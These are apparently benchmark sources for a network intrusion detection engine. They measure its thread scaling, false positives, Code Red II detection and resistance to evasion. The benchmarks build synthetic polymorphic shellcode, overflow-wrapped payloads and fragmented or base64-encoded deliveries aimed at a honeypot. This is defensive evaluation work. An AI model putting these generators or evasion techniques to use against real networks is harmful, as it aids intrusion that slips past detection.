#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Parallel analysis scaling (per-flow work units)");

  const std::size_t attack_flows = bench::env_size("SENIDS_ATTACK_FLOWS", 120);
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);

  gen::TraceBuilder tb(31337);
  util::Prng& prng = tb.prng();
  const auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::size_t i = 0; i < attack_flows; ++i) {
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(20000 + i)};
    auto poly = gen::admmutate_encode(payload, prng);
    tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                    gen::wrap_in_overflow(poly.bytes, prng));
  }
  auto capture = tb.take();

  // "work(s)" is NidsStats::analysis_seconds: summed per-unit wall across
  // workers, so it stays roughly constant while total(s) drops — the gap
  // between the two is the parallelism actually harvested.
  std::printf("%8s %12s %12s %10s %8s\n", "threads", "work(s)", "total(s)",
              "alerts", "speedup");
  bench::rule();

  double base_total = 0;
  std::size_t base_alerts = 0;
  bool consistent = true;
  for (std::size_t threads : {1u, 2u, 4u}) {
    core::NidsOptions options;
    options.threads = threads;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(honeypot);
    util::WallTimer timer;
    core::Report report = nids.process_capture(capture);
    const double total = timer.seconds();
    if (threads == 1) {
      base_total = total;
      base_alerts = report.alerts.size();
    }
    consistent = consistent && report.alerts.size() == base_alerts;
    std::printf("%8zu %12.3f %12.3f %10zu %7.2fx\n", threads,
                report.stats.analysis_seconds, total, report.alerts.size(),
                base_total / total);
  }
  bench::rule();
  std::printf("alerts identical across thread counts: %s\n", consistent ? "yes" : "NO");
  return consistent ? 0 : 1;
}
