// Efficiency extension: the analysis stages (b)-(e) are independent per
// flow, so the engine scales across worker threads. Supports the paper's
// "our implementation is more efficient than [5]" theme with a modern
// multicore angle (the pipeline design of DESIGN.md).
//
// The engine streams: workers drain analysis units while stage (a) is
// still classifying, so the speedup column compares end-to-end wall
// clock (serial baseline vs overlapped pipeline), not just the analysis
// section.
//
// On hosts with >= 8 hardware threads this bench is also a regression
// gate: it exits nonzero unless cache-off throughput (alerts/sec) at 8
// workers is at least kMinSpeedupAt8 times the 1-worker figure. Smaller
// runners print the measurements but cannot fail the floor (a 2-core
// box can never show 3x).
#include <cstdio>
#include <thread>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

/// Scaling floor at 8 workers over 1 worker, end-to-end, cache off.
constexpr double kMinSpeedupAt8 = 3.0;

}  // namespace

int main() {
  bench::title("Parallel analysis scaling (per-flow work units)");

  const std::size_t attack_flows = bench::env_size("SENIDS_ATTACK_FLOWS", 120);
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  const unsigned hw_threads = std::thread::hardware_concurrency();

  gen::TraceBuilder tb(31337);
  util::Prng& prng = tb.prng();
  const auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::size_t i = 0; i < attack_flows; ++i) {
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(20000 + i)};
    auto poly = gen::admmutate_encode(payload, prng);
    tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                    gen::wrap_in_overflow(poly.bytes, prng));
  }
  auto capture = tb.take();

  // "work(s)" is NidsStats::analysis_seconds: summed per-unit wall across
  // workers, so it stays roughly constant while total(s) drops — the gap
  // between the two is the parallelism actually harvested.
  std::printf("hardware threads: %u\n\n", hw_threads);
  std::printf("%8s %12s %12s %10s %12s %8s\n", "threads", "work(s)", "total(s)",
              "alerts", "alerts/s", "speedup");
  bench::rule();

  bench::JsonReport json("parallel_scaling");
  double base_total = 0;
  double alerts_per_s_t1 = 0;
  double alerts_per_s_t8 = 0;
  std::size_t base_alerts = 0;
  bool consistent = true;
  for (std::size_t threads : {1u, 2u, 4u, 8u}) {
    core::NidsOptions options;
    options.threads = threads;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(honeypot);
    util::WallTimer timer;
    core::Report report = nids.process_capture(capture);
    const double total = timer.seconds();
    const double alerts_per_s =
        total > 0 ? static_cast<double>(report.alerts.size()) / total : 0;
    if (threads == 1) {
      base_total = total;
      base_alerts = report.alerts.size();
      alerts_per_s_t1 = alerts_per_s;
    }
    if (threads == 8) alerts_per_s_t8 = alerts_per_s;
    consistent = consistent && report.alerts.size() == base_alerts;
    std::printf("%8zu %12.3f %12.3f %10zu %12.1f %7.2fx\n", threads,
                report.stats.analysis_seconds, total, report.alerts.size(),
                alerts_per_s, base_total / total);
    const std::string suffix = "_t" + std::to_string(threads);
    json.set("unique_total_s" + suffix, total);
    json.set("unique_alerts_per_s" + suffix, alerts_per_s);
  }
  bench::rule();
  std::printf("alerts identical across thread counts: %s\n", consistent ? "yes" : "NO");

  // ---- scaling floor (cache off, 8 workers vs 1) --------------------
  const double speedup_at_8 = alerts_per_s_t1 > 0 ? alerts_per_s_t8 / alerts_per_s_t1 : 0;
  const bool floor_enforced = hw_threads >= 8;
  const bool floor_met = speedup_at_8 >= kMinSpeedupAt8;
  std::printf("throughput at 8 workers: %.2fx the 1-worker figure "
              "(floor %.1fx, %s on this %u-thread host)\n",
              speedup_at_8, kMinSpeedupAt8,
              floor_enforced ? "ENFORCED" : "not enforced", hw_threads);
  if (floor_enforced && !floor_met) {
    std::printf("FAIL: analysis throughput no longer scales to 8 workers\n");
  }

  json.set("attack_flows", attack_flows);
  json.set("unique_total_s_t1", base_total);
  json.set("unique_alerts", base_alerts);
  json.set("hardware_threads", static_cast<std::size_t>(hw_threads));
  json.set("speedup_at_8", speedup_at_8);
  json.set("scaling_floor", kMinSpeedupAt8);
  json.set("scaling_floor_enforced", floor_enforced);
  json.set("scaling_floor_met", floor_met);

  // ---- verdict cache under parallel analysis ------------------------
  // Real attack traffic repeats (worms send one payload everywhere), so
  // the cache sweep uses a duplicate-heavy capture: a few distinct
  // polymorphic payloads, each replayed across many flows. Workers share
  // one sharded cache; hits skip stages (b)-(e) on every thread.
  bench::section("with verdict cache (duplicate-heavy workload)");
  const std::size_t groups = 8;
  gen::TraceBuilder dup_tb(31338);
  util::Prng& dup_prng = dup_tb.prng();
  std::vector<util::Bytes> variants;
  for (std::size_t g = 0; g < groups; ++g) {
    auto poly = gen::admmutate_encode(payload, dup_prng);
    variants.push_back(gen::wrap_in_overflow(poly.bytes, dup_prng));
  }
  for (std::size_t i = 0; i < attack_flows; ++i) {
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(20000 + i)};
    dup_tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80}, variants[i % groups]);
  }
  auto dup_capture = dup_tb.take();

  std::printf("%8s %8s %12s %12s %10s %9s %8s\n", "threads", "cache", "work(s)",
              "total(s)", "alerts", "hit rate", "speedup");
  bench::rule();

  double dup_base_total = 0;
  std::size_t dup_base_alerts = 0;
  bool dup_consistent = true;
  for (const bool cached : {false, true}) {
    for (std::size_t threads : {1u, 2u, 4u, 8u}) {
      core::NidsOptions options;
      options.threads = threads;
      options.verdict_cache_bytes = cached ? 64u << 20 : 0;
      core::NidsEngine nids(options);
      nids.classifier().honeypots().add_decoy(honeypot);
      util::WallTimer timer;
      core::Report report = nids.process_capture(dup_capture);
      const double total = timer.seconds();
      if (!cached && threads == 1) {
        dup_base_total = total;
        dup_base_alerts = report.alerts.size();
      }
      dup_consistent = dup_consistent && report.alerts.size() == dup_base_alerts;
      const double hit_rate =
          report.stats.units_analyzed
              ? static_cast<double>(report.stats.cache_hits) / report.stats.units_analyzed
              : 0;
      std::printf("%8zu %8s %12.3f %12.3f %10zu %8.1f%% %7.2fx\n", threads,
                  cached ? "on" : "off", report.stats.analysis_seconds, total,
                  report.alerts.size(), hit_rate * 100.0, dup_base_total / total);
      const std::string suffix =
          std::string(cached ? "cache_on" : "cache_off") + "_t" + std::to_string(threads);
      json.set("dup_total_s_" + suffix, total);
      json.set("dup_work_s_" + suffix, report.stats.analysis_seconds);
      if (cached) json.set("dup_hit_rate_" + suffix, hit_rate);
    }
  }
  bench::rule();
  std::printf("alerts identical across thread counts and cache modes: %s\n",
              dup_consistent ? "yes" : "NO");
  json.set("dup_alerts", dup_base_alerts);
  json.set("alerts_consistent", consistent && dup_consistent);
  json.write();

  // ---- source-affine shard sweep ------------------------------------
  // Stage (a) itself scales: with worker threads pinned at 1, every
  // pipeline stage (classify, reassemble, analyze) runs inside the
  // shard that owns the source, so shards are the only parallelism.
  // The workload spreads many sources across shards — the regime the
  // shard refactor targets.
  bench::section("source-affine shard sweep (threads=1, per-shard pipeline)");
  std::printf("%8s %12s %12s %10s %8s\n", "shards", "dispatch(s)", "total(s)",
              "alerts", "speedup");
  bench::rule();

  bench::JsonReport json2("shard_scaling");
  double shard_base_total = 0;
  std::size_t shard_base_alerts = 0;
  bool shard_consistent = true;
  bool shard_speedup = false;
  for (std::size_t shards : {1u, 2u, 4u}) {
    core::NidsOptions options;
    options.threads = 1;
    options.shards = shards;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(honeypot);
    util::WallTimer timer;
    core::Report report = nids.process_capture(capture);
    const double total = timer.seconds();
    if (shards == 1) {
      shard_base_total = total;
      shard_base_alerts = report.alerts.size();
    }
    shard_consistent = shard_consistent && report.alerts.size() == shard_base_alerts;
    shard_speedup = shard_speedup || (shards > 1 && total < shard_base_total);
    std::printf("%8zu %12.3f %12.3f %10zu %7.2fx\n", shards,
                report.stats.dispatch_seconds, total, report.alerts.size(),
                shard_base_total / total);
    const std::string suffix = "_s" + std::to_string(shards);
    json2.set("shard_total_s" + suffix, total);
    json2.set("shard_dispatch_s" + suffix, report.stats.dispatch_seconds);
    json2.set("shard_speedup" + suffix, shard_base_total / total);
  }
  bench::rule();
  std::printf("alerts identical across shard counts: %s\n",
              shard_consistent ? "yes" : "NO");
  std::printf("throughput improves with shards > 1: %s\n",
              shard_speedup ? "yes" : "NO");
  json2.set("attack_flows", attack_flows);
  json2.set("shard_alerts", shard_base_alerts);
  json2.set("alerts_consistent", shard_consistent);
  json2.set("speedup_observed", shard_speedup);
  json2.write();

  // ---- dequeue batch size -------------------------------------------
  // unit_batch amortizes the queue lock per worker; at 8 workers the
  // difference is the queue contention the batching removed. Output must
  // be identical either way.
  bench::section("dequeue batch size (threads=8, cache off)");
  std::printf("%8s %12s %10s %8s\n", "batch", "total(s)", "alerts", "speedup");
  bench::rule();
  double batch1_total = 0;
  bool batch_consistent = true;
  for (std::size_t unit_batch : {1u, 8u}) {
    core::NidsOptions options;
    options.threads = 8;
    options.unit_batch = unit_batch;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(honeypot);
    util::WallTimer timer;
    core::Report report = nids.process_capture(capture);
    const double total = timer.seconds();
    if (unit_batch == 1) batch1_total = total;
    batch_consistent = batch_consistent && report.alerts.size() == base_alerts;
    std::printf("%8zu %12.3f %10zu %7.2fx\n", unit_batch, total, report.alerts.size(),
                batch1_total / total);
  }
  bench::rule();
  std::printf("alerts identical across batch sizes: %s\n",
              batch_consistent ? "yes" : "NO");

  const bool ok = consistent && dup_consistent && shard_consistent &&
                  batch_consistent && (!floor_enforced || floor_met);
  return ok ? 0 : 1;
}
