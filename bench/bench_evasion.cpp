// Evasion resistance: the same exploit delivered through transport- and
// encoding-level evasions a NIDS must normalize away — whole delivery,
// tiny TCP segments, IP fragmentation, fragmentation of the segments, and
// a base64 mail attachment. Detection must be invariant.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

using namespace senids;

namespace {

const net::Ipv4Addr kHoneypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
const net::Endpoint kAttacker{net::Ipv4Addr::from_octets(192, 0, 2, 66), 31337};

pcap::Capture refragment(const pcap::Capture& in, std::size_t mtu_payload) {
  pcap::Capture out;
  for (const auto& rec : in.records) {
    for (const auto& frag : net::fragment_frame(rec.data, mtu_payload)) {
      out.add(rec.ts_sec, rec.ts_usec, frag);
    }
  }
  return out;
}

bool run(const pcap::Capture& capture, semantic::ThreatClass want) {
  core::NidsOptions options;
  core::NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  return nids.process_capture(capture).detected(want);
}

}  // namespace

int main() {
  bench::title("Evasion resistance: one exploit, five delivery paths");

  util::Prng prng(424242);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng);
  auto wire = gen::wrap_in_overflow(poly.bytes, prng);

  struct Row {
    const char* name;
    pcap::Capture capture;
    semantic::ThreatClass want;
  };
  std::vector<Row> rows;

  {
    gen::TraceBuilder tb(1);
    tb.add_tcp_flow(kAttacker, net::Endpoint{kHoneypot, 80}, wire);
    rows.push_back({"whole delivery", tb.take(), semantic::ThreatClass::kDecryptionLoop});
  }
  {
    gen::TraceBuilder tb(2);
    tb.add_tcp_flow(kAttacker, net::Endpoint{kHoneypot, 80}, wire, /*mss=*/24);
    rows.push_back({"TCP segmented (mss 24)", tb.take(),
                    semantic::ThreatClass::kDecryptionLoop});
  }
  {
    gen::TraceBuilder tb(3);
    tb.add_tcp_flow(kAttacker, net::Endpoint{kHoneypot, 80}, wire);
    rows.push_back({"IP fragmented (64B)", refragment(tb.capture(), 64),
                    semantic::ThreatClass::kDecryptionLoop});
  }
  {
    gen::TraceBuilder tb(4);
    tb.add_tcp_flow(kAttacker, net::Endpoint{kHoneypot, 80}, wire, /*mss=*/128);
    rows.push_back({"segmented + fragmented", refragment(tb.capture(), 48),
                    semantic::ThreatClass::kDecryptionLoop});
  }
  {
    gen::TraceBuilder tb(5);
    auto worm = gen::make_email_worm(tb.prng());
    tb.add_tcp_flow(kAttacker, net::Endpoint{kHoneypot, 25}, worm.smtp_payload);
    rows.push_back({"base64 mail attachment", tb.take(),
                    semantic::ThreatClass::kDecryptionLoop});
  }

  std::printf("%-28s %10s %10s\n", "delivery", "packets", "detected");
  bench::rule();
  bool all = true;
  for (auto& row : rows) {
    const bool hit = run(row.capture, row.want);
    all = all && hit;
    std::printf("%-28s %10zu %10s\n", row.name, row.capture.records.size(),
                hit ? "yes" : "NO");
  }
  bench::rule();
  std::printf("detection invariant across delivery paths: %s\n", all ? "YES" : "NO");
  return all ? 0 : 1;
}
