// Section 5.4 reproduction: false-positive evaluation. Classification is
// disabled (every payload analyzed) over a benign corpus of web, DNS and
// SMTP traffic including base64 and high-entropy binary payloads. The
// paper examined a month of traffic (566 MB) and saw zero template
// matches; default scale here is 16 MB (SENIDS_FP_MB overrides; 566 at
// paper scale).
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <mutex>
#include <thread>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "obs/pipeline.hpp"
#include "util/queue.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Section 5.4: false positive evaluation (classification disabled)");

  const std::size_t mb =
      bench::env_size("SENIDS_FP_MB", bench::paper_scale() ? 566 : 16);
  const std::size_t total_bytes = mb * 1024 * 1024;
  const std::size_t workers =
      bench::env_size("SENIDS_FP_THREADS",
                      std::max(1u, std::thread::hardware_concurrency()));

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  // SENIDS_FP_CONFIRM=1 measures the hybrid configuration where decoder
  // alerts must be confirmed by the sandbox (see NidsOptions).
  options.confirm_decoders_by_emulation = bench::env_size("SENIDS_FP_CONFIRM", 0) != 0;
  core::NidsEngine nids(options);

  util::Prng prng(5661);
  std::size_t generated = 0;
  std::size_t payloads = 0;
  std::atomic<std::size_t> false_positives{0};
  core::NidsStats stats;
  std::mutex mu;  // guards stats aggregation and FP printing

  // Generation stays serial (deterministic corpus); analysis fans out —
  // analyze_payload is const and thread-safe on a shared engine.
  util::BoundedQueue<gen::BenignPayload> queue(256);
  std::vector<std::thread> pool;
  for (std::size_t w = 0; w < workers; ++w) {
    pool.emplace_back([&] {
      core::NidsStats local;
      while (auto p = queue.pop()) {
        core::Alert meta;
        meta.dst_port = p->dst_port;
        auto alerts = nids.analyze_payload(p->data, meta, &local);
        if (!alerts.empty()) {
          false_positives += alerts.size();
          std::lock_guard lock(mu);
          for (const auto& a : alerts) {
            std::printf("FALSE POSITIVE: %s\n", a.str().c_str());
          }
          // SENIDS_FP_DUMP=<dir> writes each offending payload to a file
          // for offline replay through senids_disasm.
          if (const char* dir = std::getenv("SENIDS_FP_DUMP")) {
            static int dump_id = 0;
            char path[256];
            std::snprintf(path, sizeof path, "%s/fp_payload_%03d.bin", dir, dump_id++);
            if (std::FILE* f = std::fopen(path, "wb")) {
              std::fwrite(p->data.data(), 1, p->data.size(), f);
              std::fclose(f);
              std::printf("  payload dumped to %s (%zu bytes, dst port %u)\n", path,
                          p->data.size(), p->dst_port);
            }
          }
        }
      }
      std::lock_guard lock(mu);
      stats.units_analyzed += local.units_analyzed;
      stats.frames_extracted += local.frames_extracted;
      stats.bytes_analyzed += local.bytes_analyzed;
      stats.analyzer.candidate_runs += local.analyzer.candidate_runs;
      stats.analyzer.template_matches_tried += local.analyzer.template_matches_tried;
    });
  }

  // senids_unit_seconds feeds the JSON's p95 column.
  obs::set_metrics_enabled(true);
  obs::pipeline_metrics().unit_seconds->reset();

  util::WallTimer timer;
  while (generated < total_bytes) {
    gen::BenignPayload p = gen::make_benign_payload(prng);
    generated += p.data.size();
    ++payloads;
    queue.push(std::move(p));
  }
  queue.close();
  for (auto& t : pool) t.join();
  const double secs = timer.seconds();

  std::printf("payloads analyzed      : %zu\n", payloads);
  std::printf("bytes analyzed         : %.1f MB\n",
              static_cast<double>(generated) / (1024.0 * 1024.0));
  std::printf("frames extracted       : %zu\n", stats.frames_extracted);
  std::printf("frame bytes to disasm  : %.1f MB\n",
              static_cast<double>(stats.bytes_analyzed) / (1024.0 * 1024.0));
  std::printf("candidate code runs    : %zu\n", stats.analyzer.candidate_runs);
  std::printf("template matches tried : %zu\n", stats.analyzer.template_matches_tried);
  std::printf("elapsed                : %.2f s (%.1f MB/s)\n", secs,
              static_cast<double>(generated) / (1024.0 * 1024.0) / secs);
  std::printf("false positives        : %zu\n", false_positives.load());
  std::printf("paper: no false positives over 566 MB of benign traffic\n");

  const double mb_per_s = static_cast<double>(generated) / (1024.0 * 1024.0) / secs;
  bench::JsonReport json("fp_benign");
  json.set("payloads", payloads);
  json.set("bytes", generated);
  json.set("frames_extracted", stats.frames_extracted);
  json.set("seconds", secs);
  json.set("throughput_mb_per_s", mb_per_s);
  json.set("p95_unit_seconds",
           obs::pipeline_metrics().unit_seconds->snapshot().quantile(0.95));
  json.set("false_positives", false_positives.load());
  json.write();
  return false_positives.load() == 0 ? 0 : 1;
}
