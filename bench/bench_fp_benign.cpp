// Section 5.4 reproduction: false-positive evaluation, now per triage
// tier. Classification is disabled (every payload analyzed) over a
// benign corpus of web, DNS and SMTP traffic including base64 and
// high-entropy binary payloads. The paper examined a month of traffic
// (566 MB) and saw zero template matches; default scale here is 16 MB
// (SENIDS_FP_MB overrides; 566 at paper scale).
//
// The same corpus is run three ways:
//   1. full pipeline, triage off   -> baseline end-to-end throughput
//   2. full pipeline, triage on    -> tiered end-to-end throughput
//   3. stage-0 screen only, 1 core -> pure prefilter throughput
//
// The exit code enforces the tentpole's floors (pattern of
// bench_table3_codered): zero false positives in both configurations,
// stage-0 screening at >= 100 MB/s on one core, and a >= 10x end-to-end
// speedup from triage on the benign workload.
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <mutex>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "obs/pipeline.hpp"
#include "util/queue.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

struct PhaseResult {
  double seconds = 0;
  std::size_t false_positives = 0;
  core::NidsStats stats;
};

/// Fan the corpus out over `workers` threads against one shared engine;
/// the engine's triage mode is the only variable between phases.
PhaseResult run_phase(const core::NidsEngine& nids,
                      const std::vector<gen::BenignPayload>& corpus,
                      std::size_t workers) {
  PhaseResult result;
  std::atomic<std::size_t> next{0};
  std::atomic<std::size_t> false_positives{0};
  std::mutex mu;  // guards stats aggregation and FP printing
  std::vector<std::thread> pool;
  util::WallTimer timer;
  for (std::size_t w = 0; w < workers; ++w) {
    pool.emplace_back([&] {
      core::NidsStats local;
      for (std::size_t i = next.fetch_add(1); i < corpus.size(); i = next.fetch_add(1)) {
        const gen::BenignPayload& p = corpus[i];
        core::Alert meta;
        meta.dst_port = p.dst_port;
        auto alerts = nids.analyze_payload(p.data, meta, &local);
        if (!alerts.empty()) {
          false_positives += alerts.size();
          std::lock_guard lock(mu);
          for (const auto& a : alerts) {
            std::printf("FALSE POSITIVE: %s\n", a.str().c_str());
          }
          // SENIDS_FP_DUMP=<dir> writes each offending payload to a file
          // for offline replay through senids_disasm.
          if (const char* dir = std::getenv("SENIDS_FP_DUMP")) {
            static int dump_id = 0;
            char path[256];
            std::snprintf(path, sizeof path, "%s/fp_payload_%03d.bin", dir, dump_id++);
            if (std::FILE* f = std::fopen(path, "wb")) {
              std::fwrite(p.data.data(), 1, p.data.size(), f);
              std::fclose(f);
              std::printf("  payload dumped to %s (%zu bytes, dst port %u)\n", path,
                          p.data.size(), p.dst_port);
            }
          }
        }
      }
      std::lock_guard lock(mu);
      result.stats.units_analyzed += local.units_analyzed;
      result.stats.frames_extracted += local.frames_extracted;
      result.stats.bytes_analyzed += local.bytes_analyzed;
      result.stats.triage_screened += local.triage_screened;
      result.stats.triage_escalated += local.triage_escalated;
      result.stats.triage_rejected += local.triage_rejected;
      result.stats.triage_rejected_bytes += local.triage_rejected_bytes;
      result.stats.analyzer.candidate_runs += local.analyzer.candidate_runs;
      result.stats.analyzer.template_matches_tried += local.analyzer.template_matches_tried;
    });
  }
  for (auto& t : pool) t.join();
  result.seconds = timer.seconds();
  result.false_positives = false_positives.load();
  return result;
}

double mb(double bytes) { return bytes / (1024.0 * 1024.0); }

}  // namespace

int main() {
  bench::title("Section 5.4: false positive evaluation, per triage tier");

  const std::size_t target_mb =
      bench::env_size("SENIDS_FP_MB", bench::paper_scale() ? 566 : 16);
  const std::size_t total_bytes = target_mb * 1024 * 1024;
  const std::size_t workers =
      bench::env_size("SENIDS_FP_THREADS",
                      std::max(1u, std::thread::hardware_concurrency()));

  // Deterministic corpus, generated up front so every phase sees the
  // exact same payload sequence.
  util::Prng prng(5661);
  std::vector<gen::BenignPayload> corpus;
  std::size_t generated = 0;
  while (generated < total_bytes) {
    corpus.push_back(gen::make_benign_payload(prng));
    generated += corpus.back().data.size();
  }

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  // SENIDS_FP_CONFIRM=1 measures the hybrid configuration where decoder
  // alerts must be confirmed by the sandbox (see NidsOptions).
  options.confirm_decoders_by_emulation = bench::env_size("SENIDS_FP_CONFIRM", 0) != 0;
  core::NidsEngine nids_off(options);
  options.triage.mode = triage::TriageMode::kOn;
  core::NidsEngine nids_on(options);

  // senids_unit_seconds feeds the JSON's p95 column (triage-on phase).
  obs::set_metrics_enabled(true);

  std::printf("corpus: %zu payloads, %.1f MB; %zu workers\n\n", corpus.size(),
              mb(static_cast<double>(generated)), workers);

  const PhaseResult off = run_phase(nids_off, corpus, workers);
  obs::pipeline_metrics().unit_seconds->reset();
  const PhaseResult on = run_phase(nids_on, corpus, workers);

  // Phase 3: the prefilter alone, single-threaded — the per-core figure
  // the >= 100 MB/s floor is stated against.
  const triage::TriageFilter* filter = nids_on.triage_filter();
  std::size_t screen_rejected = 0;
  util::WallTimer screen_timer;
  for (const gen::BenignPayload& p : corpus) {
    if (!filter->screen(p.data, p.dst_port).escalate) ++screen_rejected;
  }
  const double screen_secs = screen_timer.seconds();

  const double off_mb_per_s = mb(static_cast<double>(generated)) / off.seconds;
  const double on_mb_per_s = mb(static_cast<double>(generated)) / on.seconds;
  const double stage0_mb_per_s = mb(static_cast<double>(generated)) / screen_secs;
  const double speedup = off.seconds / on.seconds;
  const double escalation_rate =
      static_cast<double>(on.stats.triage_escalated) /
      static_cast<double>(std::max<std::size_t>(1, on.stats.triage_screened));

  std::printf("tier                     throughput      frames   false pos\n");
  std::printf("full pipeline (no triage) %8.1f MB/s  %8zu  %8zu\n", off_mb_per_s,
              off.stats.frames_extracted, off.false_positives);
  std::printf("full pipeline (triage)    %8.1f MB/s  %8zu  %8zu\n", on_mb_per_s,
              on.stats.frames_extracted, on.false_positives);
  std::printf("stage-0 screen (1 core)   %8.1f MB/s         -         -\n\n",
              stage0_mb_per_s);
  std::printf("triage: %zu screened, %zu escalated (%.1f%%), %zu rejected "
              "(%.1f MB skipped)\n",
              on.stats.triage_screened, on.stats.triage_escalated,
              escalation_rate * 100.0, on.stats.triage_rejected,
              mb(static_cast<double>(on.stats.triage_rejected_bytes)));
  std::printf("end-to-end benign speedup : %.1fx\n", speedup);
  std::printf("paper: no false positives over 566 MB of benign traffic\n");

  const bool no_fps = off.false_positives == 0 && on.false_positives == 0;
  const bool stage0_floor = stage0_mb_per_s >= 100.0;
  const bool speedup_floor = speedup >= 10.0;
  std::printf("\nfloors: stage-0 >= 100 MB/s: %s; speedup >= 10x: %s; zero FPs: %s\n",
              stage0_floor ? "PASS" : "FAIL", speedup_floor ? "PASS" : "FAIL",
              no_fps ? "PASS" : "FAIL");

  bench::JsonReport json("fp_benign");
  json.set("payloads", corpus.size());
  json.set("bytes", generated);
  json.set("workers", workers);
  json.set("frames_extracted", off.stats.frames_extracted);
  json.set("seconds_no_triage", off.seconds);
  json.set("seconds_triage", on.seconds);
  json.set("seconds_stage0", screen_secs);
  json.set("throughput_mb_per_s", on_mb_per_s);
  json.set("throughput_no_triage_mb_per_s", off_mb_per_s);
  json.set("stage0_mb_per_s", stage0_mb_per_s);
  json.set("speedup", speedup);
  json.set("triage_screened", on.stats.triage_screened);
  json.set("triage_escalated", on.stats.triage_escalated);
  json.set("triage_rejected", on.stats.triage_rejected);
  json.set("triage_rejected_bytes", on.stats.triage_rejected_bytes);
  json.set("escalation_rate", escalation_rate);
  json.set("screen_only_rejected", screen_rejected);
  json.set("p95_unit_seconds",
           obs::pipeline_metrics().unit_seconds->snapshot().quantile(0.95));
  json.set("false_positives", off.false_positives + on.false_positives);
  json.write();
  return no_fps && stage0_floor && speedup_floor ? 0 : 1;
}
