// Table 3 reproduction: Code Red II detection in production-like traces.
// Twelve 5-minute traces are synthesized with benign web/DNS/SMTP
// background and a known number of planted CRII exploitation flows per
// trace; the NIDS must classify and match every instance. The paper's
// traces carry >200k packets each; default scale is reduced for CI speed
// (SENIDS_SCALE=paper restores it).
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/traffic.hpp"
#include "obs/pipeline.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

/// The verdict-cache acceptance workload: CRII spreads by flooding the
/// byte-identical request at every host, so a replay-heavy capture is
/// the worm's own traffic shape. Measures the analysis stages cache-off
/// vs cache-on over N identical exploit flows; the cache must deliver
/// >= 5x analysis-stage throughput at a >= 90% hit rate.
bool run_replay_phase(bench::JsonReport& json) {
  bench::section("verdict cache: repeated-payload replay (identical CRII flows)");

  const std::size_t flows =
      bench::env_size("SENIDS_REPLAY_FLOWS", bench::paper_scale() ? 2000 : 300);
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 1, 0, 20);

  gen::TraceBuilder tb(9100);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < flows; ++i) {
    const net::Endpoint infected{
        net::Ipv4Addr::from_octets(203, 0, static_cast<std::uint8_t>(113 + i / 250),
                                   static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(4000 + i % 20000)};
    tb.add_tcp_flow(infected, net::Endpoint{server, 80}, request);
  }
  const pcap::Capture capture = tb.take();

  // senids_unit_seconds feeds the p95 column; reset it per run so each
  // snapshot covers exactly one engine's units.
  const bool metrics_were_enabled = obs::metrics_enabled();
  obs::set_metrics_enabled(true);
  obs::PipelineMetrics& pm = obs::pipeline_metrics();

  auto run = [&](std::size_t cache_bytes, core::Report& report, double& p95) {
    core::NidsOptions options;
    options.classifier.analyze_everything = true;
    options.verdict_cache_bytes = cache_bytes;
    core::NidsEngine nids(options);
    pm.unit_seconds->reset();
    report = nids.process_capture(capture);
    p95 = pm.unit_seconds->snapshot().quantile(0.95);
  };

  core::Report off, on;
  double p95_off = 0, p95_on = 0;
  run(0, off, p95_off);
  run(64u << 20, on, p95_on);
  obs::set_metrics_enabled(metrics_were_enabled);

  const double speedup = on.stats.analysis_seconds > 0
                             ? off.stats.analysis_seconds / on.stats.analysis_seconds
                             : 0;
  const double hit_rate =
      on.stats.units_analyzed
          ? static_cast<double>(on.stats.cache_hits) / on.stats.units_analyzed
          : 0;
  const double units_per_s_off =
      off.stats.analysis_seconds > 0 ? off.stats.units_analyzed / off.stats.analysis_seconds : 0;
  const double units_per_s_on =
      on.stats.analysis_seconds > 0 ? on.stats.units_analyzed / on.stats.analysis_seconds : 0;

  std::printf("%-10s %8s %12s %12s %14s %12s\n", "engine", "units", "alerts",
